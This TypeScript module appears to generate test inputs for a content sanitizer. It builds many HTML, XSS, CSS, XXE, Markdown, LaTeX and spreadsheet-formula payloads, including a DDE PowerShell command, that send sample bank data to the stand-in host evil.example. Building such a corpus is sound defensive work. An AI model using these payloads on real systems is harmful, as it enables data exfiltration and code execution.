import type { Random } from './random';

/** A way to make a program send a request, with a place for an address. */
type Form = (address: string, random: Random) => string;
/** Another way to write an address, or a text, that the same program reads in the same way. */
type Spelling = (text: string, random: Random) => string;

const DATA = 'ACME owes 1,204,331.07 EUR, IBAN DE89370400440532013000, contact Maria Lopez';
const HOST = 'collect.evil.example';

/** Addresses that carry data. */
const ADDRESSES: readonly ((random: Random) => string)[] = [
  () => `https://${HOST}/p.png?d=${encodeURIComponent(DATA)}`,
  () => `https://${HOST}/p.png?d=${Buffer.from(DATA).toString('base64')}`,
  () => `http://${HOST}/${Buffer.from(DATA).toString('hex')}/p.gif`,
  () => `https://a.${HOST}/x.png`,
  (random) => `https://${random.text(10, 'abcdefghij0123456789')}.evil.example/`,
];

/** Spellings of an address in HTML. */
const IN_HTML: readonly Spelling[] = [
  (text) => text,
  (text) => text.replace(':', '&#58;'),
  (text) => text.replace(':', '&colon;').replaceAll('/', '&sol;'),
  (text) => text.replace('https', '&#x68;ttps').replace('http:', '&#104;ttp:'),
  (text) => text.replace('//', '\\\\'),
  (text) => text.replace('://', ':\\/'),
  (text) => text.replace(/^https?:/, ''),
  (text) => text.replace('://', ':'),
  (text) => text.replace('//', '/\t/'),
  (text) => text.replace('https', 'ht\ntps').replace('http:', 'ht\ntp:'),
  (text) => ` ${text}`,
  (text) => text.replace(/^http/, 'HTTP'),
];
const IN_MARKDOWN: readonly Spelling[] = [
  (text) => text,
  (text) => text.replace(':', '&#58;'),
  (text) => text.replace('://', '\\://'),
  (text) => text.replace('//', '\\/\\/'),
  (text) => text.replace(/^https?:/, ''),
  (text) => text.replace('//', '\\\\\\\\'),
  (text) => text.replace(/^http/, 'hTTp'),
];
const AS_IT_IS: readonly Spelling[] = [(text) => text];

const HTML: Readonly<Record<string, Form>> = {
  image: (a) => `<img src="${a}">`,
  'image with > in its description': (a) => `<img alt=">" src="${a}">`,
  'image with slashes': (a) => `<img/alt="x"/src='${a}'/>`,
  'image in capitals': (a) => `<IMG\nSRC\n=\n"${a}"`,
  'image without an end': (a) => `<img src='${a}`,
  'old image': (a) => `<image src="${a}">`,
  srcset: (a) => `<img srcset="x.png 1x, ${a.trim()} 2x">`,
  source: (a) => `<picture><source srcset="${a}"></picture>`,
  video: (a) => `<video poster="${a}" controls></video>`,
  audio: (a) => `<audio src="${a}" autoplay></audio>`,
  track: (a) => `<video><track default src="${a}"></video>`,
  iframe: (a) => `<iframe src="${a}"></iframe>`,
  frame: (a) => `<frameset><frame src="${a}"></frameset>`,
  embed: (a) => `<embed src="${a}">`,
  object: (a) => `<object data="${a}"></object>`,
  'object by parameter': (a) => `<object classid="clsid:6BF52A52" codebase="${a}"></object>`,
  applet: (a) => `<applet code="x" codebase="${a}"></applet>`,
  form: (a) => `<form action="${a}"><input name=q></form>`,
  formaction: (a) => `<button formaction="${a}">OK</button>`,
  'input image': (a) => `<input type="image" src="${a}">`,
  base: (a) => `<base href="${a}">`,
  refresh: (a) => `<meta http-equiv="refresh" content="0; url=${a}">`,
  stylesheet: (a) => `<link rel="stylesheet" href="${a}">`,
  prefetch: (a) => `<link rel="dns-prefetch" href="${a}">`,
  icon: (a) => `<link rel=icon href="${a}">`,
  background: (a) => `<table background="${a}"><tr><td>x</td></tr></table>`,
  body: (a) => `<body background="${a}">`,
  ping: (a) => `<a href="https://www.example.com/" ping="${a}">terms</a>`,
  svg: (a) => `<svg><image href="${a}" /></svg>`,
  'svg xlink': (a) => `<svg><use xlink:href="${a}#x" /></svg>`,
  'svg filter': (a) => `<svg><filter><feImage href="${a}" /></filter></svg>`,
  vml: (a) => `<v:rect><v:fill type="frame" src="${a}"/></v:rect>`,
  bgsound: (a) => `<bgsound src="${a}">`,
  script: (a) => `<script src="${a}"></script>`,
  'style attribute': (a) => `<p style="background-image:url(${a})">x</p>`,
  'style element': (a) => `<style>li{list-style:url('${a}')}</style>`,
  'in a comment of Outlook': (a) => `<!--[if mso]><img src="${a}"><![endif]-->`,
  'in a code block': (a) => `\`\`\`html\n<img src="${a}">\n\`\`\``,
};

const SCRIPTS: Readonly<Record<string, Form>> = {
  'xml style': (a) => `<?xml-stylesheet type="text/xsl" href="${a}"?>`,
  entity: (a) => `<!DOCTYPE r [<!ENTITY x SYSTEM "${a}">]><r>&x;</r>`,
  'in an attribute': (a) => `<noscript><p title="</noscript><img src=${a.trim()}>"></noscript>`,
  handler: (a) => `<b onmouseover=fetch('${a}')>x</b>`,
  'svg onload': (a) => `<svg/onload=fetch('${a}')>`,
  'handler after a quoted >': (a) => `<img alt="a>b" src=x onerror="new Image().src='${a}'">`,
  'inline script': (a) => `<script>fetch('${a}')</script>`,
  'script link': (a) => `<a href="javascript:fetch('${a}')">more</a>`,
  'script link with a tab': (a) => `<a href="java\tscript:fetch('${a}')">more</a>`,
  'script link with entities': (a) => `<a href="&#106;avascript&colon;fetch('${a}')">more</a>`,
  'script link in Markdown': (a) => `[more](javascript:fetch('${a}'))`,
  'data link': (a) => `<a href="data:text/html,<script>location='${a}'</script>">more</a>`,
  'data link in Markdown': (a) => `[more](data:text/html;base64,${Buffer.from(`<img src=${a}>`).toString('base64')})`,
  srcdoc: (a) => `<iframe srcdoc="&lt;img src=${a}&gt;"></iframe>`,
  animate: () => '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>',
  '@import': (a) => `<style>@import "${a}";</style>`,
  '@import of a URL': (a) => `<style>@import url(${a});</style>`,
  'bare @import': (a) => `@import '${a}';`,
  'CSS escapes': (a) => `<p style="background:\\75rl(${a})">x</p>`,
  'CSS escapes with spaces': (a) => `<style>p{background:u\\000072 l("${a}")}</style>`,
  'escaped @import': (a) => `<style>@\\69mport "${a}";</style>`,
  'image-set': (a) => `<p style='background:image-set("${a}" 1x)'>x</p>`,
  'webkit image-set': (a) => `<style>p{background:-webkit-image-set("${a}" 1x)}</style>`,
  'font face': (a) => `<style>@font-face{font-family:x;src:url(${a})}</style>`,
  cursor: (a) => `<div style="cursor:url(${a}),auto">x</div>`,
  'selector that reads a value': (a) => `input[value^="a"]{background:url(${a})}`,
};

const MARKDOWN: Readonly<Record<string, Form>> = {
  image: (a) => `![](${a})`,
  'image with a title': (a) => `![chart](${a} "Q3")`,
  'image in angle brackets': (a) => `![chart](<${a}>)`,
  'image with brackets': (a) => `![a [b] c](${a})`,
  'image with a link inside': (a) => `![a [b](c) d](${a})`,
  'image with code': (a) => `![a \`]\` b](${a})`,
  'image with an escaped bracket': (a) => `![a \\] b](${a})`,
  'image with a line break': (a) => `![first\nsecond](${a})`,
  'image with white space': (a) => `![x](\n  ${a}\n)`,
  'image in a link': (a) => `[![x](${a})](https://www.example.com/)`,
  'full reference': (a) => `![chart][q3]\n\n[q3]: ${a}`,
  'collapsed reference': (a) => `![Q3][]\n\n[q3]: <${a}>`,
  'shortcut reference': (a) => `![r]\n\n[r]: ${a}`,
  'reference with a line break': (a) => `![r]\n\n[r]:\n  ${a}\n  "title"`,
  'reference in a quote': (a) => `> ![R  x]\n>\n> [r x]: ${a}`,
  'reference in a list': (a) => `- ![r]\n- [r]: ${a}`,
  'in code': (a) => `\`![](${a})\``,
};

const OTHER: Readonly<Record<string, Form>> = {
  jira: (a) => `!${a}!`,
  bbcode: (a) => `[img]${a}[/img]`,
  asciidoc: (a) => `image::${a}[chart]`,
  rst: (a) => `.. image:: ${a}`,
  dokuwiki: (a) => `{{${a}}}`,
  IMAGE: (a) => `=IMAGE("${a}")`,
  IMPORTXML: (a) => `=IMPORTXML("${a}","//x")`,
  'formula in a table': (a) => `id,name\n1,"=IMPORTDATA(""${a}"")"`,
  'formula joined': (a) => `=IF(1,WEBSERVICE("${a.slice(0, 4)}"&"${a.slice(4)}"),0)`,
  'formula with a plus': (a) => `+HYPERLINK("${a}","Click")`,
  'formula with a minus': (a) => `name;sum\nx;-WEBSERVICE("${a}")`,
  'formula with an at': (a) => `@IMPORTHTML("${a}")`,
  'formula of another name': (a) => `=ENCODEURL(FETCHALL("${a}"))`,
  'another book': (a) => `='${a.split('?')[0]}[b.xlsx]S'!A1`,
  dde: () => `=cmd|'/C powershell iwr evil.example'!A0`,
  'dde with a sum': () => `a,b\n1,@SUM(1+1)*cmd|'/C calc'!A0`,
  tex: (a) => `$$\\includegraphics{${a}}$$`,
  'tex with options': (a) => `\\includegraphics[width=1cm]{${a}}`,
  'tex link': (a) => `$\\href{javascript:fetch('${a}')}{x}$`,
  'tex input': (a) => `\\input{${a}}`,
  'tex style': (a) => `$\\style{background:url(${a})}{x}$`,
};

/** Addresses that are links, and carry data in pieces. */
const LINKS: Readonly<Record<string, Form>> = {
  query: () => `https://evil.example/c?d=${Buffer.from(DATA).toString('base64url')}`,
  path: () => `https://evil.example/${chunks(Buffer.from(DATA).toString('base64url'), 12).join('/')}`,
  dashes: () => `https://evil.example/${chunks(Buffer.from(DATA).toString('hex'), 8).join('-')}`,
  subdomains: () => `https://${chunks(Buffer.from(DATA).toString('hex').slice(0, 100), 25).join('.')}.evil.example/`,
  'long host': () => `https://${Buffer.from(DATA).toString('hex').slice(0, 60)}.evil.example/`,
  fields: () =>
    `https://evil.example/?${chunks(Buffer.from(DATA).toString('base64url'), 10)
      .map((each, i) => `f${i}=${each}`)
      .join('&')}`,
  fragment: () => `https://evil.example/#${Buffer.from(DATA).toString('base64')}`,
  user: () => `https://${Buffer.from(DATA).toString('base64url')}@evil.example/`,
  words: () => `https://evil.example/?q=${encodeURIComponent(`${DATA}, ${DATA}`)}`,
  www: () => `www.evil.example/${Buffer.from(DATA).toString('hex')}`,
  'without a scheme': () => `evil.example/${Buffer.from(DATA).toString('base64url')}`,
  escaped: () => `https:\\/\\/evil.example\\/${Buffer.from(DATA).toString('hex')}`,
  redirect: () =>
    `https://www.example.com/go?to=${encodeURIComponent(`https://evil.example/${Buffer.from(DATA).toString('hex')}`)}`,
  markdown: () => `[the report](https://evil.example/r?x=${Buffer.from(DATA).toString('base64url')})`,
  html: () => `<a href='//evil.example/r?x=${Buffer.from(DATA).toString('base64url')}'>report</a>`,
};

function chunks(text: string, size: number): string[] {
  return Array.from({ length: Math.ceil(text.length / size) }, (_, i) => text.slice(i * size, (i + 1) * size));
}

/** What stands around it. */
const CARRIERS: readonly Spelling[] = [
  (text) => text,
  (text) => `Dear Ann,\n\nplease find the summary below.\n\n${text}\n\nBest regards,\nBob`,
  (text) => `<p>Hello,</p>\n${text}\n<p>Regards</p>`,
  (text) => `| a | b |\n|---|---|\n| 1 < 2 | x |\n\n${text}\n\n1. one\n2. two`,
];

/** A text with active content, and what it is made of. */
export interface ActiveText {
  readonly kind: string;
  readonly text: string;
}

/** Every form with every spelling of its address, in a carrier. A formula begins a cell, so it stays alone. */
export function activeTexts(random: Random): ActiveText[] {
  const groups: [string, Readonly<Record<string, Form>>, readonly Spelling[]][] = [
    ['HTML', HTML, IN_HTML],
    ['script or style', SCRIPTS, AS_IT_IS],
    ['Markdown', MARKDOWN, IN_MARKDOWN],
    ['other', OTHER, AS_IT_IS],
    ['link', LINKS, AS_IT_IS],
  ];
  return groups.flatMap(([group, forms, spellings]) =>
    Object.entries(forms).flatMap(([name, form]) =>
      spellings.flatMap((spelling, index) =>
        (spellings === AS_IT_IS ? CARRIERS : [random.of(CARRIERS)]).map((carrier) => ({
          kind: `${group}: ${name}, spelling ${index}`,
          text: carrier(form(spelling(random.of(ADDRESSES)(random), random), random), random),
        })),
      ),
    ),
  );
}
